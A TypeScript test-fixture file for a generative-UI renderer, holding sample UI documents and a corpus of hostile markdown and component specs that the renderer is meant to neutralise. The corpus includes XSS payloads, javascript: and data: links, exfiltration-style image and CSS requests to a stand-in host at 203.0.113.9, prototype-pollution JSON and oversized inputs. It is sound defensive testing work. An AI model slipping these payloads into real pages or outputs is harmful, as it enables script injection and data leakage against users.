/**
 * Example UI documents for tests, e2e and benchmarks: one of every component, a form to log a
 * run, documents of a given size, and a corpus of hostile specs and markdown. Plain data.
 */
import type { UiDocument, UiNode } from "../../electron/api/genui";

/** Every component of the catalog once, in a mixed (text + UI) answer. */
export function everyComponentDocument(): UiDocument {
  return {
    version: 1,
    blocks: [
      { kind: "text", markdown: "Here is **your week**, with [a link](https://example.com/plan)." },
      {
        kind: "ui",
        root: {
          type: "Card",
          id: "week",
          props: { title: "Week plan", subtitle: "Monday to Sunday" },
          children: [
            { type: "Heading", id: "h", props: { text: "Overview", level: 2 } },
            { type: "Text", id: "t", props: { markdown: "Three runs and *two* rest days." } },
            { type: "Link", id: "l", props: { label: "Training guide", url: "https://example.com/guide" } },
            {
              type: "Row",
              id: "row",
              props: { gap: "small", wrap: true },
              children: [
                { type: "Progress", id: "p", props: { label: "Weekly goal", value: 12, max: 30 } },
                {
                  type: "Callout",
                  id: "c",
                  props: { tone: "warning", title: "Rest", markdown: "Sleep **8 h**." },
                },
              ],
            },
            {
              type: "KeyValue",
              id: "kv",
              props: {
                title: "Totals",
                items: [
                  { key: "Distance", value: "12 km" },
                  { key: "Time", value: "1 h 5 min" },
                ],
              },
            },
            {
              type: "Table",
              id: "tbl",
              props: {
                caption: "Runs",
                columns: [
                  { key: "day", label: "Day" },
                  { key: "km", label: "Distance (km)", numeric: true },
                ],
                rows: [
                  ["Monday", 5],
                  ["Wednesday", 3],
                  ["Saturday", 8],
                ],
                sortable: true,
              },
            },
            {
              type: "Chart",
              id: "bar",
              props: {
                kind: "bar",
                title: "Km per day",
                labels: ["Mon", "Wed", "Sat"],
                series: [{ name: "km", values: [5, 3, 8] }],
                unit: " km",
              },
            },
            {
              type: "Chart",
              id: "line",
              props: {
                kind: "line",
                labels: ["W1", "W2", "W3"],
                series: [{ name: "pace", values: [6.1, 5.9, 5.7] }],
              },
            },
            {
              type: "Chart",
              id: "pie",
              props: {
                kind: "pie",
                labels: ["Easy", "Tempo"],
                series: [{ name: "share", values: [70, 30] }],
              },
            },
            {
              type: "Tabs",
              id: "tabs",
              props: { label: "Details" },
              children: [
                {
                  type: "Tab",
                  id: "tab-a",
                  props: { label: "Code" },
                  children: [
                    { type: "CodeBlock", id: "code", props: { code: "print('run')", language: "python" } },
                  ],
                },
                {
                  type: "Tab",
                  id: "tab-b",
                  props: { label: "Choose" },
                  children: [
                    {
                      type: "ChoiceList",
                      id: "choice",
                      props: {
                        label: "Next focus",
                        options: [
                          { value: "speed", label: "Speed" },
                          { value: "endurance", label: "Endurance" },
                        ],
                      },
                    },
                  ],
                },
              ],
            },
            {
              type: "ButtonGroup",
              id: "buttons",
              props: {
                label: "Plan",
                buttons: [
                  { label: "Accept plan", action: "accept", variant: "primary" },
                  { label: "Start over", action: "reset" },
                ],
              },
            },
            {
              type: "Stack",
              id: "stack",
              props: { gap: "large" },
              children: [{ type: "Button", id: "more", props: { label: "More ideas", action: "more" } }],
            },
          ],
        },
      },
      { kind: "ui", root: runLogForm() },
    ],
  };
}

/** The form the e2e test fills and submits. */
export function runLogForm(id = "run-form"): UiNode {
  return {
    type: "Form",
    id,
    props: {
      title: "Log your run",
      submitLabel: "Save run",
      fields: [
        { kind: "number", name: "distance", label: "Distance (km)", min: 0, max: 100, required: true },
        { kind: "date", name: "date", label: "Date", required: true },
        {
          kind: "select",
          name: "feel",
          label: "How did it feel?",
          options: [
            { value: "easy", label: "Easy" },
            { value: "hard", label: "Hard" },
          ],
        },
        { kind: "text", name: "notes", label: "Notes", multiline: true, maxLength: 500 },
        { kind: "checkbox", name: "race", label: "It was a race" },
        { kind: "slider", name: "effort", label: "Effort", min: 1, max: 10, step: 1, defaultValue: 5 },
      ],
    },
  };
}

export function runLogDocument(): UiDocument {
  return {
    version: 1,
    blocks: [
      { kind: "text", markdown: "Tell me about your run:" },
      { kind: "ui", root: runLogForm() },
    ],
  };
}

/**
 * A document of exactly `nodes` nodes: a Stack of section Stacks (at most 40 cards each, under
 * the children cap), each card holding a Heading, a Text and a KeyValue (4 nodes per card),
 * topped up with Text nodes.
 */
export function sizedDocument(nodes: number): UiDocument {
  const sections: UiNode[] = [];
  let left = nodes - 1;
  let card = 0;
  while (left > 0) {
    const children: UiNode[] = [];
    const section: UiNode = { type: "Stack", id: `section-${sections.length}`, props: {}, children };
    sections.push(section);
    left -= 1;
    while (left >= 4 && children.length < 40) {
      const i = card++;
      children.push({
        type: "Card",
        id: `card-${i}`,
        props: { title: `Card ${i}` },
        children: [
          { type: "Heading", id: `h-${i}`, props: { text: `Item ${i}`, level: 3 } },
          { type: "Text", id: `t-${i}`, props: { markdown: `Some **text** for item ${i}.` } },
          { type: "KeyValue", id: `kv-${i}`, props: { items: [{ key: "index", value: String(i) }] } },
        ],
      });
      left -= 4;
    }
    if (left < 4) {
      for (let j = 0; left > 0; j++, left--)
        children.push({ type: "Text", id: `extra-${j}`, props: { markdown: `extra ${j}` } });
    }
  }
  return {
    version: 1,
    blocks: [
      { kind: "ui", root: { type: "Stack", id: "root", props: { gap: "small" }, children: sections } },
    ],
  };
}

/** Markdown that must render as inert text: no script, no fetch, no navigation, no style. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  "<script>window.__pwned = 1</script>",
  '<img src="x" onerror="window.__pwned=1">',
  '<img src="http://203.0.113.9/leak.png">',
  "![leak](http://203.0.113.9/leak.png?secret=1)",
  "![leak](//203.0.113.9/proto-relative.png)",
  "[click](javascript:window.__pwned=1)",
  "[click](JaVaScRiPt:window.__pwned=1)",
  "[click](data:text/html,<script>window.__pwned=1</script>)",
  "[click](vbscript:msgbox)",
  '<a href="javascript:window.__pwned=1">x</a>',
  '<iframe src="http://203.0.113.9/"></iframe>',
  '<style>body{background:url("http://203.0.113.9/css.png")}</style>',
  '<div style="background:url(http://203.0.113.9/inline.png)">styled</div>',
  '<svg onload="window.__pwned=1"><circle r="5"/></svg>',
  '<link rel="stylesheet" href="http://203.0.113.9/x.css">',
  '<object data="http://203.0.113.9/x.swf"></object>',
  '<form action="http://203.0.113.9/"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=http://203.0.113.9/">',
  "[ref]: javascript:window.__pwned=1\n\n[click][ref]",
  "<http://203.0.113.9/autolink>",
];

const EVIL = "http://203.0.113.9/";

/** Raw specs a hostile or broken model could write; every one must render inert or not at all. */
export function hostileSpecs(): unknown[] {
  const text = (markdown: string, id: string) => ({ type: "Text", id, props: { markdown } });
  return [
    { version: 1, blocks: HOSTILE_MARKDOWN.map((m, i) => ({ kind: "ui", root: text(m, `md-${i}`) })) },
    { version: 1, blocks: HOSTILE_MARKDOWN.map((m) => ({ kind: "text", markdown: m })) },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: { type: "Link", id: "js", props: { label: "x", url: "javascript:window.__pwned=1" } },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "Link",
            id: "data",
            props: { label: "x", url: "data:text/html,<script>window.__pwned=1</script>" },
          },
        },
      ],
    },
    {
      version: 1,
      blocks: [{ kind: "ui", root: { type: "Image", id: "img", props: { src: `${EVIL}img.png` } } }],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: { type: "Html", id: "html", props: { html: "<script>window.__pwned=1</script>" } },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "Card",
            id: "style",
            props: { title: "x", style: { background: `url(${EVIL}s.png)` } },
          },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: { type: "Button", id: "on", props: { label: "x", action: "a", onClick: "window.__pwned=1" } },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "Text",
            id: "dsh",
            props: {
              markdown: "x",
              dangerouslySetInnerHTML: { __html: "<img src=x onerror=window.__pwned=1>" },
            },
          },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "Card",
            id: "cls",
            props: { title: "x", className: "x" },
            children: [text("inside a bad card", "kid")],
          },
        },
      ],
    },
    JSON.parse(
      '{"version":1,"blocks":[{"kind":"ui","root":{"type":"Text","id":"proto","props":{"markdown":"x","__proto__":{"polluted":1}}}}]}',
    ),
    JSON.parse(
      '{"version":1,"blocks":[{"kind":"ui","root":{"type":"Card","id":"proto2","props":{"constructor":{"prototype":{"polluted":1}}}}}]}',
    ),
    JSON.parse(
      '{"version":1,"__proto__":{"polluted":1},"blocks":[{"kind":"ui","root":{"type":"Text","id":"p3","props":{"markdown":"ok"}}}]}',
    ),
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "Chart",
            id: "chart",
            props: {
              kind: "bar",
              labels: ["<img src=x onerror=window.__pwned=1>"],
              series: [{ name: "<script>window.__pwned=1</script>", values: [1] }],
            },
          },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "Table",
            id: "tb",
            props: {
              columns: [{ key: "a", label: "<b onmouseover=window.__pwned=1>a</b>" }],
              rows: [["<script>window.__pwned=1</script>"]],
            },
          },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "CodeBlock",
            id: "cb",
            props: {
              code: "</code><script>window.__pwned=1</script>",
              language: '"><script>window.__pwned=1</script>',
            },
          },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: { type: "Callout", id: "co", props: { tone: "info", markdown: `![x](${EVIL}callout.png)` } },
        },
      ],
    },
    {
      version: 1,
      blocks: [
        {
          kind: "ui",
          root: {
            type: "Form",
            id: "fm",
            props: {
              fields: [
                {
                  kind: "text",
                  name: "a",
                  label: "<script>window.__pwned=1</script>",
                  placeholder: "javascript:alert(1)",
                },
              ],
            },
          },
        },
      ],
    },
    {
      version: 1,
      blocks: [{ kind: "ui", root: { type: "Heading", id: "hx", props: { text: "x".repeat(50_000) } } }],
    },
    { version: 1, blocks: [{ kind: "ui", root: deepNode(5000) }] },
  ];
}

/** A chain of `depth` Cards (built iteratively: the point is input too deep to recurse over). */
export function deepNode(depth: number): UiNode {
  let node: UiNode = { type: "Text", id: "leaf", props: { markdown: "deep" } };
  for (let i = 0; i < depth; i++) node = { type: "Card", id: `d${i}`, props: {}, children: [node] };
  return node;
}
